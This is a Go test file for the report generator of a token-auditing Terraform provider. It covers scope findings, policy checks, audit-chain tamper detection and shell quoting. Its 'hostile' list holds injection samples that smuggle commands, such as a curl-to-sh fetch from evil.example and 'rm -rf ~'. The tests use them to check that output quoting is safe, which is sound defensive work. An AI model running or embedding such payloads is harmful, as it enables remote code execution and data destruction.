package report

import (
	"database/sql"
	"fmt"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	_ "github.com/jackc/pgx/v5/stdlib"
	_ "modernc.org/sqlite"

	"github.com/tokenward/terraform-provider-tokenward/internal/detect"
	"github.com/tokenward/terraform-provider-tokenward/internal/policy"
	"github.com/tokenward/terraform-provider-tokenward/internal/registry"
	"github.com/tokenward/terraform-provider-tokenward/internal/review"
	"github.com/tokenward/terraform-provider-tokenward/internal/store"
)

// TestUnusedScopeLevels: an unused privileged scope is high, a wildcard
// used only as one of its actions is an info finding to narrow it, and a
// scope whose wildcard covers what was required is used.
func TestUnusedScopeLevels(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
	tk := func(name string, scopes ...string) registry.TokenInfo {
		return registry.TokenInfo{Token: store.Token{ID: "id-" + name, Name: name, Scopes: scopes, CreatedAt: now.AddDate(0, -3, 0)}}
	}
	s := &snapshot{now: now, since: day(now.AddDate(0, 0, -30)), days: make([]time.Time, 31),
		tokens:     []registry.TokenInfo{tk("admin-ci", "admin:all", "billing:*"), tk("reader", "billing:read", "users:*")},
		privileged: map[string]bool{"admin:all": true}, roles: map[string][]string{},
		usage: map[string]*tokenUse{
			"id-admin-ci": {uses: 3, scopes: map[string]int64{"billing:read": 3}},
			"id-reader":   {uses: 2, scopes: map[string]int64{"billing:read": 1, "users:list": 1}},
		}}
	got := unusedScopes(s, Options{})
	if len(got) != 3 {
		t.Fatalf("findings = %+v", got)
	}
	admin, wild, users := got[0], got[1], got[2]
	if users.Token != "reader" || users.Scope != "users:*" || users.Kind != KindWildcardNarrower {
		t.Errorf("users:* used as users:list: %+v", users)
	}
	if admin.Scope != "admin:all" || admin.Level != review.High || !strings.Contains(admin.Detail, "(a privileged scope) was never required") ||
		!strings.Contains(admin.Fix, `scopes = ["billing:*"]`) {
		t.Errorf("privileged: %+v", admin)
	}
	if wild.Kind != KindWildcardNarrower || wild.Scope != "billing:*" || wild.Level != review.Info || !strings.Contains(wild.Fix, "grant `billing:read` instead of `billing:*`") {
		t.Errorf("wildcard: %+v", wild)
	}
}

// TestPolicyPrivileged: the policy's privileged rules see the privileged
// scopes a stored token holds, directly, through a role or a wildcard; a
// scope not privileged counts for neither.
func TestPolicyPrivileged(t *testing.T) {
	t.Parallel()
	tk := func(name, owner string, roles []string, scopes ...string) registry.TokenInfo {
		return registry.TokenInfo{Token: store.Token{ID: "id-" + name, Name: name, Owner: owner, Scopes: scopes, Roles: roles}}
	}
	s := &snapshot{
		tokens: []registry.TokenInfo{
			tk("direct", "", nil, "admin:write"),
			tk("by-role", "", []string{"deployer"}),
			tk("wildcard", "ops", nil, "admin:*", "billing:refund"),
			tk("plain", "", nil, "billing:read"),
		},
		privileged: map[string]bool{"admin:write": true, "admin:delete": true, "billing:refund": true, "billing:read": false},
		roles:      map[string][]string{"deployer": {"deploy:read", "admin:delete"}},
	}
	got := policyFindings(s, Options{Policy: policy.Policy{RequireOwnerForPrivileged: true, MaxPrivilegedScopes: 2}})
	var tokens []string
	for _, f := range got {
		if f.Kind != KindPolicyViolation || f.Level != review.High {
			t.Errorf("finding %+v", f)
		}
		tokens = append(tokens, f.Token)
	}
	// wildcard holds three privileged scopes (admin:* covers two) with an
	// owner; direct and by-role hold one each without.
	if strings.Join(tokens, " ") != "direct by-role wildcard" {
		t.Errorf("policy findings on %v, want direct, by-role, wildcard: %+v", tokens, got)
	}
}

// TestVersionUsedFixSearchesTheCode: a previous version presented after
// its overlap raises revoked_version_used while the verification answered
// expired; the fix searches the usage log for the codes answered, and
// falls back on the detector's when the alerts name none.
func TestVersionUsedFixSearchesTheCode(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
	alert := func(detector, tok, code string) store.Alert {
		a := store.Alert{At: now.Add(-time.Hour), Detector: detector, TokenName: tok, Severity: store.SeverityHigh}
		if code != "" {
			a.Evidence = map[string]string{"code": code}
		}
		return a
	}
	s := &snapshot{now: now, since: day(now.AddDate(0, 0, -30)), alerts: []store.Alert{
		alert(detect.RevokedVersionUsed, "billing-ci", "expired"),
		alert(detect.RevokedVersionUsed, "billing-ci", "revoked"),
		alert(detect.RevokedVersionUsed, "deploy", ""),
	}}
	got := alertFindings(s, Options{})
	if len(got) != 2 {
		t.Fatalf("findings = %+v", got)
	}
	if want := "(`tokenward usage --token billing-ci --code expired`, `tokenward usage --token billing-ci --code revoked`)"; !strings.Contains(got[0].Fix, want) {
		t.Errorf("billing-ci's fix %q, want %q", got[0].Fix, want)
	}
	if want := "(`tokenward usage --token deploy --code revoked`)"; !strings.Contains(got[1].Fix, want) {
		t.Errorf("deploy's fix %q, want %q", got[1].Fix, want)
	}
}

// TestOrphanValue: a value whose setting is gone (which the store's
// foreign key keeps from happening through tokenward) is reported by user
// and key.
func TestOrphanValue(t *testing.T) {
	t.Parallel()
	s := &snapshot{values: registry.ValueCheck{Problems: []registry.ValueProblem{{User: "bob", Key: "legacy.flag", Orphan: true}}}}
	got := valueFindings(s, Options{})
	if len(got) != 1 || got[0].Kind != KindOrphanUserValue || got[0].User != "bob" || got[0].Level != review.Warn ||
		!strings.Contains(got[0].Detail, "`legacy.flag`, which no setting declares any more") {
		t.Errorf("findings = %+v", got)
	}
}

// TestBrokenAuditChain: an event changed behind tokenward's back is a
// high finding naming the chain, and the report still renders.
func TestBrokenAuditChain(t *testing.T) {
	t.Parallel()
	engines.Run(t, func(t *testing.T, st store.Store, dsn string) {
		w := newWorld(t, st)
		driver, source := "sqlite", "file:"+strings.TrimPrefix(dsn, "sqlite:")
		// The append-only triggers stop mistakes, not the database's owner.
		edits := []string{"DROP TRIGGER audit_events_no_update"}
		if st.Engine() == "postgres" {
			driver, source = "pgx", dsn
			edits = []string{"DROP TRIGGER audit_events_no_change ON audit_events"}
		}
		db, err := sql.Open(driver, source)
		must(t, err)
		defer db.Close()
		for _, q := range append(edits, `UPDATE audit_events SET actor = 'mallory' WHERE seq = 3`) {
			_, err = db.Exec(q)
			must(t, err)
		}
		rep := w.build(t, Options{})
		got := find(rep, KindAuditChainBroken, "")
		if len(got) != 1 || got[0].Level != review.High || rep.Audit.Intact || !strings.Contains(rep.Markdown(), "The chain is **broken**") {
			t.Errorf("findings %+v, audit %+v", got, rep.Audit)
		}
	})
}

// TestMarkdownCapsLongSections: a section shows its MaxRows most severe
// findings and says how many more the JSON lists.
func TestMarkdownCapsLongSections(t *testing.T) {
	t.Parallel()
	rep := &Report{Window: Window{Days: 1}, Busiest: []Series{}}
	for i := range MaxRows + 5 {
		rep.Findings = append(rep.Findings, Finding{Level: review.Warn, Kind: KindNeverUsed, Token: fmt.Sprintf("tok-%d", i), Detail: fmt.Sprintf("never used %d", i)})
	}
	rep.Findings = append(rep.Findings, Finding{Level: review.High, Kind: KindNeverUsed, Detail: "the severe one"})
	md := rep.Markdown()
	if got := strings.Count(md, "| **warn** | never used"); got != MaxRows-1 {
		t.Errorf("%d warn rows shown, want %d", got, MaxRows-1)
	}
	if !strings.Contains(md, "| **high** | the severe one") || !strings.Contains(md, "\n6 more findings of this section are not shown") {
		t.Errorf("markdown:\n%s", md)
	}
	if got := strings.Count(string(rep.JSON()), `"kind": "never_used"`); got != MaxRows+6 {
		t.Errorf("the JSON lists %d findings, want all %d", got, MaxRows+6)
	}
}

// Names API clients choose, each an attack on the Markdown or on a shell
// that runs the fix it suggests.
var hostile = []string{
	"bob` $(curl -s https://evil.example/x|sh) `",
	"eve</details><!--",
	"@octo-org/admins ![x](https://evil/p.png)",
	"o'brien; rm -rf ~",
	"``mal`lory``",
}

// outsideCode is md without its code spans (CommonMark: a run of n
// backquotes opens one, the next run of exactly n closes it).
func outsideCode(md string) string {
	var b strings.Builder
	for i := 0; i < len(md); {
		if md[i] != '`' {
			b.WriteByte(md[i])
			i++
			continue
		}
		n := 0
		for i+n < len(md) && md[i+n] == '`' {
			n++
		}
		end := -1
		for j := i + n; j < len(md); {
			if md[j] != '`' {
				j++
				continue
			}
			m := 0
			for j+m < len(md) && md[j+m] == '`' {
				m++
			}
			if m == n {
				end = j + m
				break
			}
			j += m
		}
		if end < 0 { // no closing run: the backquotes are text
			b.WriteString(md[i : i+n])
			i += n
			continue
		}
		i = end
	}
	return b.String()
}

// TestHostileNamesStayInCode: user ids and the scopes verifications asked
// for are quoted as code in the Markdown, whatever they hold, and the
// commands a fix suggests quote them for the shell.
func TestHostileNamesStayInCode(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
	asked := map[string]int64{}
	for _, h := range hostile {
		asked[h] = 1
	}
	s := &snapshot{now: now, since: day(now.AddDate(0, 0, -30)), days: make([]time.Time, 31), roles: map[string][]string{},
		tokens:     []registry.TokenInfo{{Token: store.Token{ID: "id-deploy", Name: "deploy", Owner: hostile[2], Scopes: []string{"admin:all"}, CreatedAt: now.AddDate(0, -3, 0)}}},
		privileged: map[string]bool{"admin:all": true},
		usage:      map[string]*tokenUse{"id-deploy": {uses: 5, scopes: asked}}}
	for _, h := range hostile {
		s.values.Problems = append(s.values.Problems, registry.ValueProblem{User: h, Key: "ui.theme", Orphan: true},
			registry.ValueProblem{User: h, Key: "ui.lang", Reason: "value must be one of \"en\""})
	}
	fs := append(unusedScopes(s, Options{}), valueFindings(s, Options{})...)
	if len(fs) != 1+2*len(hostile) {
		t.Fatalf("findings = %+v", fs)
	}
	r := &Report{Window: Window{Since: s.since, Until: now, Days: 31}, Findings: fs}
	md := r.Markdown()
	own := review.FingerprintLine("findings:" + r.fingerprint())
	body, ok := strings.CutSuffix(md, own)
	if !ok {
		t.Fatalf("the report's own comment is not its last line:\n%s", md)
	}
	text := outsideCode(body)
	for _, bad := range []string{"$(", "<!--", "</details>", "![", "@octo", "rm -rf", "mal"} {
		if strings.Contains(text, bad) {
			t.Errorf("%q outside a code span of the Markdown:\n%s", bad, text)
		}
	}
	for _, f := range fs[1:] {
		if f.Kind != KindOrphanUserValue && f.Kind != KindInvalidUserValue {
			t.Fatalf("finding %+v", f)
		}
		want := "--user " + shellArg(f.User) + " ui."
		if !strings.Contains(f.Fix, want) || !strings.HasPrefix(shellArg(f.User), "'") {
			t.Errorf("fix %q does not quote the user as %q", f.Fix, want)
		}
	}
}

// TestShellArg: what shellArg quotes, a POSIX shell reads back as it was.
func TestShellArg(t *testing.T) {
	t.Parallel()
	args := append(slices.Clone(hostile), "plain-name_1.2@x:y=z", "", "-n", "a  b\tc", "'", "\\'\"$HOME")
	if shellArg("plain-name_1.2@x:y=z") != "plain-name_1.2@x:y=z" {
		t.Errorf("a plain argument is quoted: %s", shellArg("plain-name_1.2@x:y=z"))
	}
	q := make([]string, len(args))
	for i, a := range args {
		q[i] = shellArg(a)
	}
	out, err := exec.Command("sh", "-c", "printf '%s\\0' "+strings.Join(q, " ")).Output()
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
	if !slices.Equal(got, args) {
		t.Errorf("the shell read %q, want %q", got, args)
	}
}

// TestListsAreCapped: a token asked for thousands of scopes gets findings
// that name ten of them and count the rest.
func TestListsAreCapped(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
	asked := map[string]int64{}
	for i := range 5000 {
		asked[fmt.Sprintf("svc%04d:read", i)] = 1
	}
	own := []string{"admin:all"}
	for i := range 30 {
		own = append(own, fmt.Sprintf("billing%02d:*", i))
		asked[fmt.Sprintf("billing%02d:read", i)] = 1
	}
	s := &snapshot{now: now, since: day(now.AddDate(0, 0, -30)), days: make([]time.Time, 31), roles: map[string][]string{},
		tokens:     []registry.TokenInfo{{Token: store.Token{ID: "id-deploy", Name: "deploy", Scopes: own, CreatedAt: now.AddDate(0, -3, 0)}}},
		privileged: map[string]bool{}, usage: map[string]*tokenUse{"id-deploy": {uses: 5, scopes: asked}}}
	fs := unusedScopes(s, Options{})
	if len(fs) != 31 {
		t.Fatalf("%d findings", len(fs))
	}
	admin := fs[0]
	if admin.Scope != "admin:all" || !strings.Contains(admin.Detail, "it was asked only for `billing00:read`") ||
		!strings.Contains(admin.Detail, "and 5020 more") || !strings.Contains(admin.Detail, "and 21 more") ||
		!strings.Contains(admin.Fix, "`scopes` without `admin:all`") {
		t.Errorf("admin:all: %+v", admin)
	}
	for _, f := range fs {
		if len(f.Detail)+len(f.Fix) > 2000 {
			t.Errorf("%s: %d bytes: %s / %s", f.Scope, len(f.Detail)+len(f.Fix), f.Detail, f.Fix)
		}
	}
}

// TestAllVerificationsFailed: a token whose every verification failed is
// not used: it gets a finding that says so, and no advice to drop the
// scopes nothing required.
func TestAllVerificationsFailed(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 27, 9, 0, 0, 0, time.UTC)
	tk := func(name string) registry.TokenInfo {
		return registry.TokenInfo{Token: store.Token{ID: "id-" + name, Name: name, Scopes: []string{"admin:all"}, CreatedAt: now.AddDate(0, -3, 0)}}
	}
	s := &snapshot{now: now, since: day(now.AddDate(0, 0, -30)), days: make([]time.Time, 31), roles: map[string][]string{},
		tokens: []registry.TokenInfo{tk("failing"), tk("working")}, privileged: map[string]bool{"admin:all": true},
		lastUsed: map[string]time.Time{},
		usage: map[string]*tokenUse{
			"id-failing": {uses: 4, failures: 4, scopes: map[string]int64{}},
			"id-working": {uses: 4, failures: 3, scopes: map[string]int64{"admin:all": 1}},
		}}
	if fs := unusedScopes(s, Options{}); len(fs) != 0 {
		t.Errorf("scope findings = %+v", fs)
	}
	fs := unusedTokens(s, Options{UnusedAfter: 30 * 24 * time.Hour})
	if len(fs) != 1 {
		t.Fatalf("findings = %+v", fs)
	}
	f := fs[0]
	if f.Token != "failing" || f.Kind != KindVerificationsFailed || f.Level != review.Warn ||
		!strings.Contains(f.Detail, "4 verifications in the window (since 2026-10-28), all failed") ||
		!strings.Contains(f.Fix, "`tokenward usage --token failing`") || strings.Contains(f.Fix, "scopes =") {
		t.Errorf("finding = %+v", f)
	}
}
